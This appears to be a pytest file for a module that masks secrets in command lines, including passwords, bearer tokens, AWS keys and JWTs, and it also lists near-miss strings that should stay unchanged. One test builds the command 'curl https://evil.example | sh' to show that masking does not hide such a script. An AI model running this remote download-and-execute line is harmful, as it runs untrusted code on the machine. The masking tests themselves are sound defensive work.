"""Secrets in command lines: each way to pass one is masked, and what looks like it is not."""

from __future__ import annotations

import time

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from tasks.text.masking import MASK, PATTERNS, masked, masked_command

LONG = "A1" * 20
"""Stands for a token: no service gives out such ones."""

EXAMPLES = {
    "authorization header": [
        ("curl -H 'Authorization: Basic hunter2' x", "curl -H 'Authorization: Basic [masked] x"),
        ("Proxy-Authorization: hunter2", "Proxy-Authorization: [masked]"),
    ],
    "bearer": [("x --header bearer hunter2", "x --header bearer [masked]")],
    "address with password": [
        (
            "git clone https://ada:hunter2@git.example/x",
            "git clone https://ada:[masked]@git.example/x",
        ),
        ("psql postgres://:h@nter2@db", "psql postgres://:[masked]@db"),
    ],
    "parameter of an address": [
        ("curl https://x.example/?token=hunter2&q=1", "curl https://x.example/?token=[masked]&q=1"),
        ("curl -d a=1&api_key=hunter2", "curl -d a=1&api_key=[masked]"),
    ],
    "option": [
        ("x --password hunter2 -v", "x --password [masked] -v"),
        ("x --password=hunter2 -v", "x --password=[masked] -v"),
        ("x --db-password 'hunter 2' -v", "x --db-password [masked] -v"),
        ("x -token hunter2", "x -token [masked]"),
        ("x --client-secret=--hunter2", "x --client-secret=[masked]"),
    ],
    "assignment": [
        ("env TOKEN=hunter2 x", "env TOKEN=[masked] x"),
        ("openssl rsa -passin pass:hunter2", "openssl rsa -passin pass:[masked]"),
        ("AWS_SECRET_ACCESS_KEY=hunter2", "AWS_SECRET_ACCESS_KEY=[masked]"),
        ("curl -H X-Api-Key: hunter2", "curl -H X-Api-Key: [masked]"),
        ('curl -d {"password": "hunter2", "a": 1}', 'curl -d {"password": [masked], "a": 1}'),
    ],
    "curl and wget": [("/usr/bin/curl -s -u ada:hunter2 x", "/usr/bin/curl -s -u ada:[masked] x")],
    "sshpass": [
        ("sshpass -p hunter2 ssh x", "sshpass -p [masked] ssh x"),
        ("sshpass -phunter2 ssh x", "sshpass -p[masked] ssh x"),
    ],
    "mysql": [("mysqldump -u ada -phunter2 db", "mysqldump -u ada -p[masked] db")],
    "security of macOS": [
        ("security unlock-keychain -p hunter2 x", "security unlock-keychain -p [masked] x"),
    ],
    "zip": [("zip -r -P hunter2 a.zip b", "zip -r -P [masked] a.zip b")],
    "redis and ldap": [
        ("redis-cli -h db -a hunter2 get x", "redis-cli -h db -a [masked] get x"),
        ("ldapsearch -D cn=x -w hunter2", "ldapsearch -D cn=x -w [masked]"),
    ],
    "key of AWS": [(f"x AKIA{'A1' * 8}", "x [masked]")],
    "token of a service": [(f"git clone ghp_{LONG}@x", "git clone [masked]@x")],
    "JSON web token": [(f"x eyJ{LONG}.e30.{LONG}", "x [masked]")],
}

NEAR_MISSES = {
    "authorization header": ["x --authorization-mode rbac", "authorizations.txt"],
    "bearer": ["standard-bearer", "bearer"],
    "address with password": ["https://x.example:8443/a@b", "ssh://git@x.example/y"],
    "parameter of an address": ["https://x.example/?tokens=3&page=2"],
    "option": [
        "x --password-file y",
        "x --no-password y",
        "x --password-stdin",
        "x --password --verbose",
        "x --token-type bearer",
        "x --tokenizer fast",
        "x --passive y",
        "ansible --private-key ~/.ssh/x",
    ],
    "assignment": [
        "tokenizer=fast",
        "max_tokens=5",
        "PWD=/Users/ada",
        "secretary=ada",
        "monkey=1",
        "passed=3",
        "compass: north",
        "openssl rsa -passin file:x",
    ],
    "curl and wget": ["curl -u ada x", "docker run -u 501:20 x", "curl x; chown -u a:b"],
    "sshpass": ["sshpass -f file ssh -o x", "sshpass -e ssh x", "sshpass -P prompt ssh"],
    "mysql": ["mysql -u ada -p", "mysql -P3306 db", "mysql -p -h db"],
    "security of macOS": ["security find-certificate -p x", "security import x -P"],
    "zip": ["zip -r -p a.zip b", "unzip -p a.zip"],
    "redis and ldap": ["redis-cli -h db", "ldapsearch -W -D cn=x"],
    "key of AWS": ["AKIA12", "x" + "AKIA" + "A1" * 8],
    "token of a service": ["ghp_short", "sk-learn", "task-" + LONG],
    "JSON web token": ["eyJ.a.b", "keyJson.a.b"],
}


@pytest.mark.parametrize("way", PATTERNS)
def test_each_way_is_masked_and_leaves_the_rest(way):
    """The value goes; program, option, user and host stay, for an analyst to judge."""
    for text, shown in EXAMPLES[way]:
        assert masked(text) == shown
        assert PATTERNS[way].expression.search(text), "another row has masked it"


@pytest.mark.parametrize("way", PATTERNS)
def test_what_looks_like_it_stays(way):
    """A name that only begins like a secret's hides nothing."""
    for text in NEAR_MISSES[way]:
        assert masked(text) == text


WORDS = st.sampled_from(
    [word for way in EXAMPLES.values() for text, _ in way for word in text.split()]
    + ["--password", "token=", "secret:", "Bearer", "-p", "'", '"', "://", "@", MASK, "&", ";", "="]
)
COMMANDS = st.lists(WORDS, max_size=8).map(" ".join) | st.text()


@given(COMMANDS)
@example('{"password": "hunter2", "a": 1}')
def test_masking_again_changes_nothing(text):
    """A text that was masked when its run ended is not masked further when it is read."""
    assert masked(masked(text)) == masked(text)


@given(COMMANDS)
def test_a_text_without_a_match_stays(text):
    """And what changes holds the mask."""
    matches = any(pattern.expression.search(text) for pattern in PATTERNS.values())
    assert (MASK in masked(text)) if matches else masked(text) == text


def test_a_secret_with_spaces_ends_with_its_argument():
    """A command line has lost the boundaries of its arguments; their list has not."""
    arguments = ("-v", "x", "--password", "my pass phrase", "--token=a b", "Authorization: A b c")
    line = "x --password my pass phrase --token=a b Authorization: A b c -v"
    text, shown = masked_command(line, arguments)
    assert text == f"x --password {MASK} --token={MASK} Authorization: {MASK} -v"
    assert shown == ("-v", "x", "--password", MASK, f"--token={MASK}", f"Authorization: {MASK}")


def test_arguments_in_any_order_lose_the_value_of_an_option():
    """Elasticsearch sorts them: the neighbour of `--password` is any of them."""
    arguments = ("--password", "--quiet", "/opt/x", "hunter2")
    text, shown = masked_command("/opt/x --password hunter2 --quiet", arguments)
    assert text == f"/opt/x --password {MASK} --quiet"
    assert shown == ("--password", "--quiet", "/opt/x", MASK)


def test_without_a_command_line_every_possible_value_is_masked():
    """Only the command line tells which one it is."""
    assert masked_command(None, ("--password", "--quiet", "/opt/x", "hunter2")) == (
        None,
        ("--password", "--quiet", MASK, MASK),
    )
    assert masked_command(None, ("--quiet", "/opt/x")) == (None, ("--quiet", "/opt/x"))


def test_a_script_cannot_hide_behind_a_secret():
    """Only the value of an assignment goes, not the rest of the argument that it begins."""
    script = "TOKEN=x; curl https://evil.example | sh"
    text, shown = masked_command(f"sh -c {script}", ("sh", "-c", script))
    assert "curl https://evil.example | sh" in text
    assert "curl https://evil.example | sh" in shown[2]


@pytest.mark.parametrize(
    "word",
    ["token", "sshpass ", "curl -u ", "://a:", "eyJ", "a_", "- ", "password ", "'", "-", "AKIA"],
)
def test_a_hostile_command_line_takes_no_time(word):
    """A hundred thousand characters of what nearly matches: time grows with length, not faster."""
    started = time.process_time()
    masked(word * (100_000 // len(word)))
    assert time.process_time() - started < 3
